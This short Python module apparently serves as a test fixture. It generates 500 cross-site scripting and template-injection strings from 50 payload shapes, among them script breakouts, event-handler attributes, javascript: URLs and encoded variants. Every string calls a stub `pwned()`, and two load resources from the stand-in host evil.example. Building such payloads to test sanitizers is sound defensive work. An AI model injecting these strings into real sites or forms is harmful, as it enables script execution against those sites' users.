"""Texts that try to become part of a page: 500 of them, each of which would call `pwned()`."""

from itertools import islice, product

_CALLS = ("pwned()", "window.pwned&&pwned()", "parent.pwned()", "top['pwned']()", "eval('pwned()')")
_SHAPES = (
    "<script>{0}</script>",
    "</script><script>{0}</script>",
    "<ScRiPt >{0}</sCrIpT>",
    "<img src=x onerror={0}>",
    '"><img src=x onerror="{0}">',
    "'><img src=x onerror='{0}'>",
    "` onfocus=`{0}` autofocus=`",
    '" onfocus="{0}" autofocus="',
    "' onfocus='{0}' autofocus='",
    "<svg onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg/onload='{0}'/>",
    "</title><script>{0}</script>",
    "</textarea><script>{0}</script>",
    "</select><img src=x onerror={0}>",
    "</option></select><svg onload={0}>",
    "<body onload={0}>",
    "<details open ontoggle={0}>",
    '<iframe src="javascript:{0}"></iframe>',
    '<iframe srcdoc="<script>{0}</script>"></iframe>',
    "javascript:{0}",
    "javascript:{0}//http://x",
    '<a href="javascript:{0}">x</a>',
    "<math><mtext><img src=x onerror={0}></mtext></math>",
    "<noscript><img src=x onerror={0}></noscript>",
    "<style>@import 'http://evil.example/{0}';</style>",
    "<link rel=stylesheet href='data:text/css,{0}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<base href=http://evil.example/{0}>",
    "<object data='javascript:{0}'></object>",
    "<embed src='javascript:{0}'>",
    "<form action='javascript:{0}'><button autofocus>x</button></form>",
    "{{{{ {0} }}}}",
    "{{% print({0}) %}}",
    "${{{0}}}",
    "<%= {0} %>",
    "]]><script>{0}</script>",
    "--><script>{0}</script>",
    "<!--><script>{0}</script>-->",
    "<template><script>{0}</script></template>",
    "\\x3cscript\\x3e{0}\\x3c/script\\x3e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;script&#62;{0}&#60;/script&#62;",
    "%3Cscript%3E{0}%3C/script%3E",
    "<marquee onstart={0}>x</marquee>",
    "<video><source onerror={0}></video>",
    "<input autofocus onfocus={0}>",
    "<x contenteditable onblur={0}>y</x>",
    "＜script＞{0}＜/script＞",
    '<p style="background:url(javascript:{0})">x</p>',
)
_AROUND = ("{0}", "age {0}", "{0} é \u202e 漢")

HOSTILE = [
    around.format(shape.format(call))
    for around, call, shape in islice(product(_AROUND, _CALLS, _SHAPES), 500)
]
assert len(set(HOSTILE)) == 500
